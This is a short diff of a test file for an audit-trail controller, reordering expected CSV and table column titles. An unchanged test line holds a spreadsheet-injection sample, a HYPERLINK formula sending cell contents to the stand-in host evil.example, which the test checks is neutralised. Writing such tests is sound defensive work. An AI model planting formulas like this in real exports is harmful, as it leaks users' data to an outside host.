@@ -62,7 +62,7 @@ describe('audit-trail controller against the simulator', function () {
     assert.equal(r.hasMore, true);
     assert.deepEqual(
       r.columns.slice(0, 5).map((x) => x.title),
-      ['Time', 'User', 'Email', 'Kind', 'Description'],
+      ['Time', 'User', 'Kind', 'Description', 'Email'],
     );
     assert.match(sim.requests.at(-1)!.path, /\/v1\/customers\/[^/]+\/audit-trails\?offset=0&limit=100$/);
   });
@@ -129,7 +129,7 @@ describe('audit-trail controller against the simulator', function () {
     assert.equal(exported.rows, 100);
     const csv = shown[1]!;
     assert.equal(csv.extension, 'csv');
-    assert.match(csv.text, /^Time,User,Email,Kind,Description,Identity provider/);
+    assert.match(csv.text, /^Time,User,Kind,Description,Email,Identity provider/);
     assert.ok(csv.text.includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")"`), 'the formula is neutralised');
     assert.ok(!/\r\n=/.test(csv.text) && !/,=/.test(csv.text), 'no cell starts with =');
   });
